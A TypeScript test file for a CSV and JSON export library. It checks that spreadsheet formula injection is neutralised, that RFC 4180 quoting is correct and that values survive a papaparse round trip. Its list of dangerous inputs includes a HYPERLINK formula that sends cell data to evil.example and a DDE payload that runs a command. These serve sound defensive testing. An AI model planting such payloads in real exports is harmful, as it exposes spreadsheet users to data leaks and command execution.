import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { BOM, csvField, isFormulaLike, neutralizeFormula, tableToCsv, toCsv } from '../../src/lib/export/csv.ts';
import { tableToJson } from '../../src/lib/export/json.ts';
import { column, type Row, type Table } from '../../src/lib/export/table.ts';

const TEXT = column('name', 'text', 'a text');
const NUM = column('score', 'number', 'a number');
const INT = column('count', 'integer', 'a count');

/** Parses CSV text the way a reader would (papaparse, header row, no type guessing). */
function parse(csv: string): Record<string, string>[] {
  const result = Papa.parse<Record<string, string>>(csv, { header: true, delimiter: ',', skipEmptyLines: true, dynamicTyping: false });
  expect(result.errors).toEqual([]);
  return result.data;
}

describe('formula injection (OWASP): text cells that a spreadsheet would run are neutralised', () => {
  const dangerous = [
    '=1+2',
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    '+62 812',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+2',
    '\r=1+2',
    '\tplain after a tab',
    '\rplain after a CR',
    ' =1+2',
    '   @cmd',
    '\u00A0=1+2',
    '\n=1+2',
    ' \n -1',
    '\u3000=1',
    '＝1+2',
    '＋1',
    '－1',
    '＠SUM(A1)',
    "=cmd|' /C calc'!A0",
    '-',
  ];
  it.each(dangerous)('neutralises %j with a leading quote, quoted, and reads back with the quote', (value) => {
    expect(isFormulaLike(value)).toBe(true);
    const field = csvField(TEXT, value);
    expect(field.startsWith(`"'`)).toBe(true);
    const [row] = parse(toCsv([TEXT], [{ name: value }], { bom: false }));
    expect(row!.name).toBe(`'${value}`);
    // Nothing the spreadsheet sees starts with a formula character any more.
    expect(isFormulaLike(row!.name!)).toBe(false);
  });

  const harmless = ['Kabupaten Toli-Toli', 'a=b', '1-2', 'mail@example.org', 'Kota Bau-Bau', "'already quoted", '', '—', '− 5', 'Rp 1.000'];
  it.each(harmless)('leaves %j alone', (value) => {
    expect(isFormulaLike(value)).toBe(false);
    expect(neutralizeFormula(value)).toBe(value);
  });

  it('never touches number columns: negative numbers stay numbers', () => {
    expect(csvField(NUM, -2.5)).toBe('-2.5');
    expect(csvField(INT, -3)).toBe('-3');
    const csv = toCsv([TEXT, NUM], [{ name: '-1', score: -1 }], { bom: false });
    expect(csv).toBe(`name,score\n"'-1",-1\n`);
  });
});

describe('RFC 4180 quoting, empty cells, numbers', () => {
  it('quotes commas, quotes, line breaks and edge blanks, and nothing else', () => {
    expect(csvField(TEXT, 'plain')).toBe('plain');
    expect(csvField(TEXT, 'Permintaan Imbalan Uang, Barang dan/atau Jasa')).toBe('"Permintaan Imbalan Uang, Barang dan/atau Jasa"');
    expect(csvField(TEXT, 'kata "kutip"')).toBe('"kata ""kutip"""');
    expect(csvField(TEXT, 'baris\nbaru')).toBe('"baris\nbaru"');
    expect(csvField(TEXT, 'crlf\r\nline')).toBe('"crlf\r\nline"');
    expect(csvField(TEXT, ' spasi ')).toBe('" spasi "');
  });
  it('writes null, undefined and empty text as an empty field', () => {
    expect(
      toCsv(
        [TEXT, NUM, INT],
        [
          { name: null, score: null },
          { name: '', count: undefined },
        ],
        { bom: false },
      ),
    ).toBe('name,score,count\n,,\n,,\n');
  });
  it('writes numbers with a dot, no grouping, shortest form; rejects wrong types', () => {
    expect(csvField(NUM, 45.67)).toBe('45.67');
    expect(csvField(NUM, 1234567.5)).toBe('1234567.5');
    expect(csvField(NUM, 0)).toBe('0');
    expect(csvField(NUM, -0)).toBe('0');
    expect(csvField(INT, 2024)).toBe('2024');
    expect(() => csvField(INT, 2.5)).toThrow(/whole number/);
    expect(() => csvField(NUM, Number.NaN)).toThrow(/finite/);
    expect(() => csvField(NUM, Infinity)).toThrow(/finite/);
    expect(() => csvField(NUM, '45' as unknown as number)).toThrow(/number/);
    expect(() => csvField(TEXT, 45 as unknown as string)).toThrow(/string/);
  });
  it('starts with a BOM and ends every row with \\n (also the last)', () => {
    const csv = toCsv([TEXT], [{ name: 'a' }, { name: 'b' }]);
    expect(csv).toBe(`${BOM}name\na\nb\n`);
    expect(csv.includes('\r')).toBe(false);
    expect(toCsv([TEXT], [], { bom: false })).toBe('name\n');
  });
  it('rejects column names that are not snake_case, and duplicates', () => {
    expect(() => toCsv([column('Name', 'text', '')], [])).toThrow(/snake_case/);
    expect(() => toCsv([TEXT, TEXT], [])).toThrow(/duplicate/);
  });
});

describe('round trip through papaparse', () => {
  const columns = [column('code', 'text', ''), TEXT, NUM, INT, column('note', 'text', '')];
  const rows: Row[] = [
    { code: '18.09', name: 'Kabupaten Pesawaran', score: 45.67, count: 1234, note: null },
    { code: '18.10', name: 'Kota "Baru", Lampung', score: -2.5, count: 0, note: 'dua\nbaris, dengan koma' },
    { code: '35.75', name: 'Kota Pasuruan', score: 100, count: -7, note: ' spasi di tepi ' },
    { code: '71.09', name: 'Kabupaten Kepulauan Siau Tagulandang Biaro', score: 0.01, count: 2024, note: 'é ü – “kutip”' },
    { code: '94.01', name: 'Kabupaten Merauke', score: null, count: null, note: '' },
  ];
  const table: Table = { name: 'sample', title: 'sample', columns, rows };

  it('gives back the same texts and numbers (BOM skipped by the reader)', () => {
    const csv = tableToCsv(table);
    const parsed = parse(csv);
    expect(Object.keys(parsed[0]!)).toEqual(columns.map((c) => c.name));
    expect(parsed).toHaveLength(rows.length);
    parsed.forEach((got, i) => {
      const want = rows[i]!;
      expect(got.code).toBe(want.code);
      expect(got.name).toBe(want.name);
      expect(got.note).toBe(want.note ?? '');
      expect(got.score === '' ? null : Number(got.score)).toBe(want.score);
      expect(got.count === '' ? null : Number(got.count)).toBe(want.count);
    });
  });
  it('keeps codes as written (18.10 is not 18.1)', () => {
    expect(parse(tableToCsv(table))[1]!.code).toBe('18.10');
  });
  it('the JSON twin holds the same values, with null for empty cells and text never prefixed', () => {
    const json = JSON.parse(tableToJson({ ...table, rows: [...rows, { code: '=1', name: '-x', score: -1, count: 1, note: null }] })) as Record<
      string,
      unknown
    >[];
    expect(json[0]).toEqual({ code: '18.09', name: 'Kabupaten Pesawaran', score: 45.67, count: 1234, note: null });
    expect(json[4]).toEqual({ code: '94.01', name: 'Kabupaten Merauke', score: null, count: null, note: null });
    expect(json[5]).toEqual({ code: '=1', name: '-x', score: -1, count: 1, note: null });
    expect(tableToJson({ ...table, rows: [] })).toBe('[]\n');
    expect(() => tableToJson({ ...table, rows: [{ score: 'x' }] })).toThrow(/number/);
  });
});
